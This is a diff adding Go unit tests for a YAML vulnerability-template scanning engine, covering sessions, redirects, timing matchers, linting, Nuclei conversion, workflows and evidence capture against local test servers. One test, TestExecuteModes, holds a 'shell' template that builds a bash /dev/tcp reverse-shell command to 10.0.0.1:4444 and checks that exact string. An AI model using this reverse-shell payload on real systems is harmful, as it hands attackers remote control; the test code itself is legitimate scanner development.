+				w.Write([]byte("Welcome, admin"))
+				return
+			}
+			http.Error(w, "forbidden", http.StatusForbidden)
+		case "/redirect":
+			http.Redirect(w, r, "/redirect2", http.StatusFound)
+		case "/redirect2":
+			http.Redirect(w, r, "/final", http.StatusFound)
+		case "/final":
+			w.Write([]byte("final page"))
+		}
+	}))
+}
+
+func TestExecuteCookieReuse(t *testing.T) {
+	server := newSessionTestServer()
+	defer server.Close()
+
+	template := `
+info:
+  name: Cookie reuse
+%s
+requests:
+  - method: GET
+    path: /login
+  - method: GET
+    path: /admin
+    matchers:
+      - type: word
+        words:
+          - "Welcome, admin"
+`
+
+	tests := []struct {
+		name     string
+		option   string
+		expected bool
+	}{
+		{"default on for multi-request templates", "", true},
+		{"explicitly disabled", "cookie-reuse: false", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			poc, err := Parse(fmt.Sprintf(template, tt.option))
+			if err != nil {
+				t.Fatalf("Failed to parse YAML: %v", err)
+			}
+
+			matched, _, err := poc.Execute(server.URL, nil)
+			if err != nil {
+				t.Fatalf("Failed to execute: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected matched %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+}
+
+func TestExecuteSharedSession(t *testing.T) {
+	server := newSessionTestServer()
+	defer server.Close()
+	defer ClearSharedSessions()
+
+	login, err := Parse(`
+info:
+  name: Login
+shared-session: true
+requests:
+  - method: GET
+    path: /login
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	admin, err := Parse(`
+info:
+  name: Admin panel
+shared-session: true
+requests:
+  - method: GET
+    path: /admin
+    matchers:
+      - type: word
+        words:
+          - "Welcome, admin"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	if _, _, err := login.Execute(server.URL, nil); err != nil {
+		t.Fatalf("Failed to execute login: %v", err)
+	}
+
+	matched, _, err := admin.Execute(server.URL+"/", nil)
+	if err != nil {
+		t.Fatalf("Failed to execute admin: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected the admin template to reuse the shared session")
+	}
+}
+
+func TestExecuteRedirects(t *testing.T) {
+	server := newSessionTestServer()
+	defer server.Close()
+
+	tests := []struct {
+		name     string
+		option   string
+		expected string
+	}{
+		{"followed by default", "", "final page"},
+		{"disabled", "redirects: false", "/redirect2"},
+		{"limited", "max-redirects: 1", "/final"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			poc, err := Parse(`
+info:
+  name: Redirects
+requests:
+  - method: GET
+    path: /redirect
+    ` + tt.option + `
+    matchers:
+      - type: word
+        part: all
+        words:
+          - "` + tt.expected + `"
+`)
+			if err != nil {
+				t.Fatalf("Failed to parse YAML: %v", err)
+			}
+
+			matched, _, err := poc.Execute(server.URL, nil)
+			if err != nil {
+				t.Fatalf("Failed to execute: %v", err)
+			}
+
+			if !matched {
+				t.Errorf("Expected response to contain %q", tt.expected)
+			}
+		})
+	}
+}
+
+func TestExecuteTimeMatcherRecheck(t *testing.T) {
+	var requests, jitter atomic.Int32
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests.Add(1)
+		switch r.URL.Path {
+		case "/sleep":
+			ms, _ := strconv.Atoi(r.URL.Query().Get("ms"))
+			time.Sleep(time.Duration(ms) * time.Millisecond)
+		case "/jitter":
+			if jitter.Add(1) == 1 {
+				time.Sleep(300 * time.Millisecond)
+			}
+		}
+	}))
+	defer server.Close()
+
+	template := `
+info:
+  name: Time based
+variables:
+  delay: "300"
+requests:
+  - method: GET
+    path: "%s"
+    recheck:
+      count: 2
+      control:
+        delay: "0"
+    matchers-condition: and
+    matchers:
+      - type: time
+        threshold: 250ms
+      - type: dsl
+        dsl:
+          - "duration >= 0.25"
+`
+
+	tests := []struct {
+		name     string
+		path     string
+		expected bool
+		requests int32
+	}{
+		{"consistent delay", "/sleep?ms={{delay}}", true, 4},
+		{"network jitter", "/jitter?ms={{delay}}", false, 2},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			requests.Store(0)
+
+			poc, err := Parse(fmt.Sprintf(template, tt.path))
+			if err != nil {
+				t.Fatalf("Failed to parse YAML: %v", err)
+			}
+
+			matched, _, err := poc.Execute(server.URL, nil)
+			if err != nil {
+				t.Fatalf("Failed to execute: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected matched %v, got %v", tt.expected, matched)
+			}
+			if n := requests.Load(); n != tt.requests {
+				t.Errorf("Expected %d requests, got %d", tt.requests, n)
+			}
+		})
+	}
+}
+
+func TestParseThreshold(t *testing.T) {
+	tests := map[string]time.Duration{
+		"5s":     5 * time.Second,
+		"1500ms": 1500 * time.Millisecond,
+		"2.5":    2500 * time.Millisecond,
+	}
+
+	for threshold, expected := range tests {
+		d, err := parseThreshold(threshold)
+		if err != nil {
+			t.Fatalf("Failed to parse %q: %v", threshold, err)
+		}
+		if d != expected {
+			t.Errorf("parseThreshold(%q) = %v, expected %v", threshold, d, expected)
+		}
+	}
+
+	if _, err := parseThreshold(""); err == nil {
+		t.Error("Expected an error for a missing threshold")
+	}
+}
+
+func TestExecuteModes(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/version":
+			w.Write([]byte("vulnerable 1.0"))
+		case "/exec":
+			fmt.Fprintf(w, "uid=0(root) cmd=%s", r.URL.Query().Get("cmd"))
+		}
+	}))
+	defer server.Close()
+
+	template := `
+info:
+  name: Modes
+requests:
+  - method: GET
+    path: /version
+    matchers:
+      - type: word
+        words:
+          - "vulnerable"
+%s`
+
+	withFlows := fmt.Sprintf(template, `
+attack:
+  - method: GET
+    path: /exec?cmd=id
+    matchers:
+      - type: word
+        words:
+          - "uid=0"
+shell:
+  - method: GET
+    path: "/exec?cmd={{url_encode('bash -i >& /dev/tcp/' + lhost + '/' + lport + ' 0>&1')}}"
+    extractors:
+      - type: regex
+        name: command
+        group: "1"
+        regex:
+          - "cmd=(.*)"
+`)
+
+	poc, err := Parse(withFlows)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	variables := map[string]interface{}{"lhost": "10.0.0.1", "lport": "4444"}
+
+	matched, extracted, err := poc.ExecuteMode(ModeShell, server.URL, variables)
+	if err != nil {
+		t.Fatalf("Failed to execute shell mode: %v", err)
+	}
+	if !matched {
+		t.Error("Expected shell mode to succeed")
+	}
+	if extracted["command"] != "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" {
+		t.Errorf("Unexpected shell command: %v", extracted["command"])
+	}
+
+	if matched, _, err := poc.ExecuteMode(ModeAttack, server.URL, nil); err != nil || !matched {
+		t.Errorf("Expected attack mode to match, got %v, %v", matched, err)
+	}
+
+	verifyOnly, err := Parse(fmt.Sprintf(template, ""))
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	if matched, _, err := verifyOnly.ExecuteMode(ModeAttack, server.URL, nil); err != nil || !matched {
+		t.Errorf("Expected attack mode to fall back to the verify requests, got %v, %v", matched, err)
+	}
+
+	if _, _, err := verifyOnly.ExecuteMode(ModeShell, server.URL, variables); err == nil {
+		t.Error("Expected an error for a template without shell requests")
+	}
+}
+
+func TestOptions(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "path=%s", r.URL.Path)
+	}))
+	defer server.Close()
+
+	yamlContent := `
+info:
+  name: Options
+options:
+  - name: endpoint
+    default: admin
+    description: Endpoint to probe
+  - name: retries
+    type: int
+    default: "3"
+  - name: payload
+    type: dict
+    default: probe
+    values:
+      probe: check
+      exploit: run
+  - name: token
+    required: true
+requests:
+  - method: GET
+    path: "/{{endpoint}}/{{payload}}/{{retries}}"
+    matchers:
+      - type: word
+        words:
+          - "path=/admin/check/3"
+`
+
+	poc, err := Parse(yamlContent)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	options, err := poc.APIOptions()
+	if err != nil {
+		t.Fatalf("Failed to build options: %v", err)
+	}
+	if len(options) != 4 {
+		t.Fatalf("Expected 4 options, got %d", len(options))
+	}
+	if opt := options["retries"].(api.Option); opt.Type() != api.OptionInteger || opt.Default() != 3 {
+		t.Errorf("Unexpected retries option: %s %v", opt.Type(), opt.Default())
+	}
+
+	if _, _, err := poc.Execute(server.URL, nil); err == nil {
+		t.Error("Expected an error for a missing required option")
+	}
+
+	matched, _, err := poc.Execute(server.URL, map[string]interface{}{"token": "secret"})
+	if err != nil {
+		t.Fatalf("Failed to execute POC: %v", err)
+	}
+	if !matched {
+		t.Error("Expected the option defaults to be applied")
+	}
+
+	resolved, err := api.ResolveOptions(options, map[string]interface{}{"token": "secret", "retries": "5", "payload": "exploit"})
+	if err != nil {
+		t.Fatalf("Failed to resolve options: %v", err)
+	}
+	if resolved["retries"] != 5 || resolved["payload"] != "run" || resolved["endpoint"] != "admin" {
+		t.Errorf("Unexpected resolved options: %v", resolved)
+	}
+
+	if _, err := api.ResolveOptions(options, map[string]interface{}{"token": "secret", "retries": "many"}); err == nil {
+		t.Error("Expected an error for an invalid integer")
+	}
+
+	invalid := []string{
+		"options:\n  - name: mode\n    type: enum\n    default: fast\n    choices: [slow]\n",
+		"options:\n  - name: level\n    type: float\n",
+		"options:\n  - name: a\n  - name: a\n",
+	}
+	for _, content := range invalid {
+		if _, err := Parse(content); err == nil {
+			t.Errorf("Expected an error parsing %q", content)
+		}
+	}
+}
+
+func TestParseClassification(t *testing.T) {
+	yamlContent := `
+id: CVE-2021-44228
+info:
+  name: Log4Shell
+  severity: critical
+  vendor: apache
+  product: log4j
+  classification:
+    cve-id: CVE-2021-44228
+    cwe-id:
+      - CWE-502
+      - CWE-400
+    cvss-score: 10.0
+    cvss-metrics: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H
+    cpe: cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:*
+requests:
+  - method: GET
+    path: /
+`
+
+	poc, err := Parse(yamlContent)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	if poc.ID != "CVE-2021-44228" {
+		t.Errorf("Expected ID 'CVE-2021-44228', got '%s'", poc.ID)
+	}
+	if poc.Info.Vendor != "apache" || poc.Info.Product != "log4j" {
+		t.Errorf("Unexpected vendor/product: %s/%s", poc.Info.Vendor, poc.Info.Product)
+	}
+
+	c := poc.Info.Classification
+	if c == nil {
+		t.Fatal("Expected classification to be decoded")
+	}
+	if len(c.CVEID) != 1 || c.CVEID[0] != "CVE-2021-44228" {
+		t.Errorf("Unexpected cve-id: %v", c.CVEID)
+	}
+	if len(c.CWEID) != 2 || c.CWEID[1] != "CWE-400" {
+		t.Errorf("Unexpected cwe-id: %v", c.CWEID)
+	}
+	if c.CVSSScore != 10.0 || !strings.HasPrefix(c.CVSSMetrics, "CVSS:3.1/") || !strings.HasPrefix(c.CPE, "cpe:2.3:a:apache") {
+		t.Errorf("Unexpected CVSS/CPE: %v %s %s", c.CVSSScore, c.CVSSMetrics, c.CPE)
+	}
+}
+
+func TestLint(t *testing.T) {
+	valid := `
+id: lint-ok
+info:
+  name: Lint
+  author: test
+  severity: info
+options:
+  - name: token
+requests:
+  - method: GET
+    path: "/{{url_encode(token)}}?v={{version}}"
+    matchers:
+      - type: dsl
+        dsl:
+          - "status_code == 200 && version != ''"
+    extractors:
+      - type: regex
+        name: version
+        group: v
+        regex:
+          - "v(?P<v>[0-9.]+)"
+`
+	if issues := Lint([]byte(valid), ""); len(issues) != 0 {
+		t.Errorf("Expected no issues, got %v", issues)
+	}
+
+	invalid := `
+info:
+  name: Lint
+  severity: urgent
+requests:
+  - method: GET
+    path: "/{{BaseURL +}}"
+    headers:
+      X-Token: "{{missing}}"
+    matcher:
+      - type: word
+    matchers:
+      - type: words
+      - type: word
+        part: bodyy
+        words: [a]
+      - type: status
+        status: [ok]
+`
+
+	expected := []struct {
+		line, column int
+		severity     string
+		message      string
+	}{
+		{2, 1, SeverityWarning, "missing template id"},
+		{3, 3, SeverityError, "missing required info field 'author'"},
+		{4, 13, SeverityError, "unknown severity 'urgent'"},
+		{7, 11, SeverityError, "invalid expression 'BaseURL +'"},
+		{9, 16, SeverityWarning, "undefined variable 'missing'"},
+		{10, 5, SeverityError, "unknown field 'matcher'"},
+		{13, 15, SeverityError, "unknown matcher type 'words'"},
+		{15, 15, SeverityError, "unknown part 'bodyy'"},
+		{18, 18, SeverityError, "cannot unmarshal"},
+	}
+
+	issues := Lint([]byte(invalid), "")
+	if len(issues) != len(expected) {
+		t.Fatalf("Expected %d issues, got %d: %v", len(expected), len(issues), issues)
+	}
+	for i, e := range expected {
+		issue := issues[i]
+		if issue.Line != e.line || issue.Column != e.column || issue.Severity != e.severity || !strings.Contains(issue.Message, e.message) {
+			t.Errorf("Issue %d: expected %d:%d %s %q, got %s", i, e.line, e.column, e.severity, e.message, issue)
+		}
+	}
+
+	if issues := Lint([]byte("info: [\n"), ""); len(issues) != 1 || issues[0].Severity != SeverityError {
+		t.Errorf("Expected a syntax error, got %v", issues)
+	}
+}
+
+func TestParseCompilesExpressions(t *testing.T) {
+	template := `
+info:
+  name: Compile
+requests:
+  - method: GET
+    path: "%s"
+    matchers:
+      - type: dsl
+        dsl:
+          - "%s"
+`
+
+	poc, err := Parse(fmt.Sprintf(template, "/{{to_lower(Host)}}", "status_code == 200"))
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+	if len(poc.programCache) != 2 {
+		t.Errorf("Expected 2 compiled expressions, got %d", len(poc.programCache))
+	}
+
+	broken := map[string][2]string{
+		"syntax":      {"/{{Host +}}", "true"},
+		"helper args": {"/", "md5(body, body) != ''"},
+	}
+	for name, parts := range broken {
+		if _, err := Parse(fmt.Sprintf(template, parts[0], parts[1])); err == nil {
+			t.Errorf("%s: expected a compile error at load time", name)
+		}
+	}
+}
+
+func TestConvertNuclei(t *testing.T) {
+	template := `
+id: nuclei-convert
+info:
+  name: Convert
+  author: test
+  severity: high
+  tags: cve,rce
+  metadata:
+    vendor: acme
+http:
+  - method: GET
+    path:
+      - "{{BaseURL}}/a"
+      - "{{BaseURL}}/b"
+    matchers-condition: and
+    matchers:
+      - type: word
+        case-insensitive: true
+        words:
+          - "Admin.Panel"
+      - type: dsl
+        dsl:
+          - 'contains(body, "ok") && content_length > 0'
+    extractors:
+      - type: kval
+        kval:
+          - x_powered_by
+`
+
+	if !IsNucleiTemplate([]byte(template)) {
+		t.Fatal("Expected template to be detected as nuclei")
+	}
+	native := "id: native\ninfo:\n  name: Native\n  tags: [a]\nrequests:\n  - method: GET\n    path: /\n"
+	if IsNucleiTemplate([]byte(native)) {
+		t.Error("Expected native template not to be detected as nuclei")
+	}
+
+	poc, err := ConvertNuclei([]byte(template))
+	if err != nil {
+		t.Fatalf("Failed to convert template: %v", err)
+	}
+
+	if poc.ID != "nuclei-convert" || len(poc.Info.Tags) != 2 {
+		t.Errorf("Unexpected info: id %q, tags %v", poc.ID, poc.Info.Tags)
+	}
+	if len(poc.Requests) != 1 || len(poc.Requests[0].Raw) != 2 {
+		t.Fatalf("Expected one request with two raw requests, got %+v", poc.Requests)
+	}
+
+	req := poc.Requests[0]
+	if got := req.Matchers[0].Regex; len(got) != 1 || got[0] != `(?i)Admin\.Panel` {
+		t.Errorf("Expected case-insensitive regex, got %v", got)
+	}
+	if got := req.Matchers[1].DSL[0]; got != `contains_all(body, "ok") && len(body) > 0` {
+		t.Errorf("Unexpected rewritten DSL: %s", got)
+	}
+	if got := req.Extractors[0].Kval; len(got) != 1 || got[0] != "X-Powered-By" {
+		t.Errorf("Unexpected kval keys: %v", got)
+	}
+
+	unsupported := `
+id: nuclei-unsupported
+info:
+  name: Unsupported
+  author: test
+  severity: info
+http:
+  - method: GET
+    path:
+      - "{{BaseURL}}/{{randstr}}"
+    matchers:
+      - type: dsl
+        dsl:
+          - 'contains(all_headers, "x")'
+headless:
+  - steps: []
+`
+
+	_, err = ConvertNuclei([]byte(unsupported))
+	convErr, ok := err.(*ConversionError)
+	if !ok {
+		t.Fatalf("Expected a ConversionError, got %v", err)
+	}
+	if len(convErr.Problems) != 3 {
+		t.Errorf("Expected 3 problems, got %v", convErr.Problems)
+	}
+}
+
+func TestExecuteMatcherNames(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Server", "nginx")
+		fmt.Fprint(w, "<title>Log In - Confluence</title>")
+	}))
+	defer server.Close()
+
+	poc, err := Parse(`
+info:
+  name: Tech detect
+requests:
+  - method: GET
+    path: "{{BaseURL}}/"
+    matchers-condition: or
+    matchers:
+      - type: word
+        name: confluence
+        words:
+          - "Confluence"
+      - type: word
+        name: jira
+        words:
+          - "Jira"
+      - type: word
+        name: nginx
+        part: header
+        words:
+          - "nginx"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, extracted, err := poc.Execute(server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+	if !matched {
+		t.Fatal("Expected template to match")
+	}
+
+	names, _ := extracted["matcher_names"].([]string)
+	if strings.Join(names, ",") != "confluence,nginx" {
+		t.Errorf("Expected matcher names [confluence nginx], got %v", names)
+	}
+}
+
+func TestParseWorkflow(t *testing.T) {
+	content := `
+id: confluence-workflow
+info:
+  name: Confluence workflow
+workflows:
+  - template: tech-detect
+    matchers:
+      - name: confluence
+        subtemplates:
+          - tags: confluence
+      - name: [jira, nginx]
+        condition: and
+        subtemplates:
+          - template: jira-rce.yaml
+`
+	if !IsWorkflow([]byte(content)) {
+		t.Fatal("Expected document to be detected as a workflow")
+	}
+
+	workflow, err := ParseWorkflow(content)
+	if err != nil {
+		t.Fatalf("Failed to parse workflow: %v", err)
+	}
+
+	var entries []string
+	workflow.Walk(func(path string, tmpl *WorkflowTemplate) error {
+		entries = append(entries, fmt.Sprintf("%s=%s%v", path, tmpl.Template, []string(tmpl.Tags)))
+		return nil
+	})
+	expected := []string{
+		"workflows[0]=tech-detect[]",
+		"workflows[0].matchers[0].subtemplates[0]=[confluence]",
+		"workflows[0].matchers[1].subtemplates[0]=jira-rce.yaml[]",
+	}
+	if strings.Join(entries, " ") != strings.Join(expected, " ") {
+		t.Errorf("Expected entries %v, got %v", expected, entries)
+	}
+
+	matchers := workflow.Workflows[0].Matchers
+	if !matchers[0].Matches([]string{"nginx", "confluence"}) {
+		t.Error("Expected the confluence matcher to match")
+	}
+	if matchers[1].Matches([]string{"nginx"}) || !matchers[1].Matches([]string{"jira", "nginx"}) {
+		t.Error("Expected the and matcher to need every name")
+	}
+	if !workflow.Workflows[0].Matchers[1].Subtemplates[0].IsFile() || workflow.Workflows[0].IsFile() {
+		t.Error("Expected only the .yaml reference to be a file")
+	}
+
+	invalid := map[string]string{
+		"no templates":   "id: w\nworkflows: []\n",
+		"both":           "id: w\nworkflows:\n  - template: a\n    tags: b\n",
+		"unnamed":        "id: w\nworkflows:\n  - template: a\n    matchers:\n      - subtemplates:\n          - template: b\n",
+		"no subtemplate": "id: w\nworkflows:\n  - template: a\n    matchers:\n      - name: x\n",
+	}
+	for name, content := range invalid {
+		if _, err := ParseWorkflow(content); err == nil {
+			t.Errorf("%s: expected an error", name)
+		}
+	}
+}
+
+// BenchmarkEvaluateRequest measures the per-target cost of evaluating a
+// templated request: "compile-per-target" is what every target paid before
+// expressions were compiled at load time, "precompiled" is the cost now.
+func BenchmarkEvaluateRequest(b *testing.B) {
+	poc, err := Parse(`
+info:
+  name: Bench
+requests:
+  - method: POST
+    path: "/{{Path}}/api?id={{rand_int(1, 100)}}&sig={{md5(Host + token)}}"
+    headers:
+      Authorization: "Bearer {{base64(token)}}"
+      X-Forwarded-Host: "{{to_lower(Hostname)}}"
+    body: "user={{url_encode(user)}}&ts={{unix_time()}}"
+`)
+	if err != nil {
+		b.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	req := poc.Requests[0]
+	env := newEnv()
+	vars, _ := targetVariables("http://example.com:8080/app/")
+	for k, v := range vars {
+		env[k] = v
+	}
+	env["token"] = "secret"
+	env["user"] = "admin"
+
+	b.Run("compile-per-target", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			if _, err := (&YAMLPOC{}).evaluateRequest(req, env); err != nil {
+				b.Fatal(err)
+			}
+		}
+	})
+
+	b.Run("precompiled", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			if _, err := poc.evaluateRequest(req, env); err != nil {
+				b.Fatal(err)
+			}
+		}
+	})
+}
+
+func TestExecuteContextCancel(t *testing.T) {
+	release := make(chan struct{})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case <-release:
+		case <-r.Context().Done():
+		}
+	}))
+	defer server.Close()
+	defer close(release)
+
+	poc, err := Parse(`
+info:
+  name: Hung target
+requests:
+  - method: GET
+    path: /
+    matchers:
+      - type: status
+        status:
+          - 200
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	matched, _, err := poc.ExecuteContext(ctx, server.URL, nil)
+	if !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("Expected deadline exceeded, got matched=%v err=%v", matched, err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("Expected execution to stop at the deadline, took %v", elapsed)
+	}
+
+	if _, _, err := poc.ExecuteContext(ctx, server.URL, nil); !errors.Is(err, context.DeadlineExceeded) {
+		t.Errorf("Expected no request once the context is done, got %v", err)
+	}
+}
+
+func TestRunEvidence(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		w.Header().Set("X-Echo", string(body))
+		if strings.HasPrefix(r.URL.Path, "/missing") {
+			w.WriteHeader(http.StatusNotFound)
+			return
+		}
+		if r.URL.Path == "/big" {
+			fmt.Fprint(w, strings.Repeat("é", api.MaxEvidenceSize))
+			return
+		}
+		fmt.Fprint(w, "vulnerable")
+	}))
+	defer server.Close()
+
+	poc, err := Parse(`
+info:
+  name: Evidence
+requests:
+  - method: GET
+    path: /probe
+    matchers:
+      - type: word
+        words:
+          - vulnerable
+  - method: POST
+    path: /confirm
+    body: "id=1"
+    matchers:
+      - type: word
+        part: header
+        words:
+          - id=1
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	execution, err := poc.Run(context.Background(), ModeVerify, server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to run POC: %v", err)
+	}
+	if !execution.Matched {
+		t.Fatal("Expected POC to match")
+	}
+	if len(execution.Evidence) != 2 {
+		t.Fatalf("Expected evidence of 2 requests, got %d", len(execution.Evidence))
+	}
+
+	probe, confirm := execution.Evidence[0], execution.Evidence[1]
+	if !strings.HasPrefix(probe.Request, "GET /probe HTTP/1.1\r\n") {
+		t.Errorf("Unexpected request evidence: %q", probe.Request)
+	}
+	if !strings.HasPrefix(probe.Response, "HTTP/1.1 200 OK\r\n") || !strings.HasSuffix(probe.Response, "vulnerable") {
+		t.Errorf("Unexpected response evidence: %q", probe.Response)
+	}
+	if !strings.HasPrefix(confirm.Request, "POST /confirm HTTP/1.1\r\n") || !strings.HasSuffix(confirm.Request, "\r\n\r\nid=1") {
+		t.Errorf("Expected the request body in the evidence, got %q", confirm.Request)
+	}
+
+	poc, err = Parse(`
+info:
+  name: Big response
+requests:
+  - method: GET
+    path: /big
+    matchers:
+      - type: status
+        status:
+          - 200
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	execution, err = poc.Run(context.Background(), ModeVerify, server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to run POC: %v", err)
+	}
+	if len(execution.Evidence) != 1 {
+		t.Fatalf("Expected evidence of 1 request, got %d", len(execution.Evidence))
+	}
+	if evidence := execution.Evidence[0]; !evidence.Truncated || len(evidence.Response) > api.MaxEvidenceSize || !utf8.ValidString(evidence.Response) {
+		t.Errorf("Expected a truncated response of valid UTF-8, got %d bytes, truncated=%v", len(evidence.Response), evidence.Truncated)
+	}
+
+	execution, err = poc.Run(context.Background(), ModeVerify, server.URL+"/missing", map[string]interface{}{})
+	if err != nil {
+		t.Fatalf("Failed to run POC: %v", err)
+	}
+	if execution.Matched || execution.Evidence != nil {
+		t.Errorf("Expected no evidence without a match, got %+v", execution)
+	}
+}
+
+func TestExecuteZoneTransferContextCancel(t *testing.T) {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	defer listener.Close()
+
+	// Accept the transfer and never answer it.
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+		}
+	}()
+
+	poc, err := Parse(`
+info:
+  name: Hung zone transfer
+dns:
+  - name: example.com
+    type: AXFR
+    resolver: "` + listener.Addr().String() + `"
+    matchers:
+      - type: word
+        part: answer
+        words:
+          - "SOA"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	matched, _, err := poc.ExecuteContext(ctx, "http://example.com", nil)
+	if !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("Expected deadline exceeded, got matched=%v err=%v", matched, err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("Expected the transfer to stop at the deadline, took %v", elapsed)
+	}
+}
+
+func TestConvertNucleiDefaults(t *testing.T) {
+	template := `
+id: nuclei-defaults
+info:
+  name: Defaults
+  author: test
+  severity: info
+http:
+  - method: GET
+    path:
+      - "{{BaseURL}}/"
+    matchers:
+      - type: status
+        status:
+          - 302
+      - type: word
+        words:
+          - "never there"
+  - method: GET
+    path:
+      - "{{BaseURL}}/"
+    redirects: true
+    max-redirects: 2
+    matchers-condition: and
+    matchers:
+      - type: status
+        status:
+          - 200
+  - method: GET
+    path:
+      - "{{BaseURL}}/"
+    host-redirects: true
+    matchers:
+      - type: status
+        status:
+          - 200
+dns:
+  - name: "{{FQDN}}"
+    type: A
+    matchers:
+      - type: word
+        words:
+          - "IN A"
+network:
+  - host:
+      - "{{Hostname}}"
+    port: "6379"
+    inputs:
+      - data: "PING\r\n"
+    matchers:
+      - type: word
+        words:
+          - "PONG"
+`
+
+	poc, err := ConvertNuclei([]byte(template))
+	if err != nil {
+		t.Fatalf("Failed to convert template: %v", err)
+	}
+
+	tests := []struct {
+		condition string
+		redirects bool
+	}{
+		{"or", false},
+		{"and", true},
+		{"or", true},
+	}
+	for i, tt := range tests {
+		req := poc.Requests[i]
+		if req.MatchersCondition != tt.condition {
+			t.Errorf("http[%d]: expected matchers-condition %q, got %q", i, tt.condition, req.MatchersCondition)
+		}
+		if req.Redirects == nil || *req.Redirects != tt.redirects {
+			t.Errorf("http[%d]: expected redirects set to %v, got %v", i, tt.redirects, req.Redirects)
+		}
+	}
+	if poc.DNS[0].MatchersCondition != "or" {
+		t.Errorf("Expected dns matchers-condition or, got %q", poc.DNS[0].MatchersCondition)
+	}
+	if poc.Network[0].MatchersCondition != "or" {
+		t.Errorf("Expected network matchers-condition or, got %q", poc.Network[0].MatchersCondition)
+	}
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/" {
+			http.Redirect(w, r, "/landing", http.StatusFound)
+			return
+		}
+		w.Write([]byte("landing"))
+	}))
+	defer server.Close()
+
+	poc.Requests = poc.Requests[:1]
+	poc.DNS = nil
+	poc.Network = nil
+
+	matched, _, err := poc.Execute(server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+	if !matched {
+		t.Error("Expected the redirect itself to match one of the matchers, as nuclei would")
+	}
+}
+
+func TestParseRawRequestBody(t *testing.T) {
+	tests := []struct {
+		name string
+		raw  string
+		body string
+	}{
+		{"crlf head, lf body", "POST / HTTP/1.1\r\nHost: a\r\n\r\nline1\nline2\n\nline4", "line1\nline2\n\nline4"},
+		{"lf head, crlf body", "POST / HTTP/1.1\nHost: a\n\nline1\r\nline2\r\n\r\nline4\n", "line1\r\nline2\r\n\r\nline4"},
+		{"mixed blank line", "POST / HTTP/1.1\nHost: a\n\r\na=1\r\n", "a=1\r\n"},
+		{"multipart", "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n--x--\r\n",
+			"--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n--x--\r\n"},
+		{"no body", "GET / HTTP/1.1\nHost: a\n", ""},
+	}
+
+	for _, tt := range tests {
+		parsed, err := parseRawRequest(tt.raw)
+		if err != nil {
+			t.Errorf("%s: failed to parse raw request: %v", tt.name, err)
+			continue
+		}
+		if parsed.Body != tt.body {
+			t.Errorf("%s: expected body %q, got %q", tt.name, tt.body, parsed.Body)
+		}
+	}
+
+	parsed, err := parseRawRequest("POST / HTTP/1.1\nHost: a\nX-A: 1\r\n\r\nbody")
+	if err != nil {
+		t.Fatalf("Failed to parse raw request: %v", err)
+	}
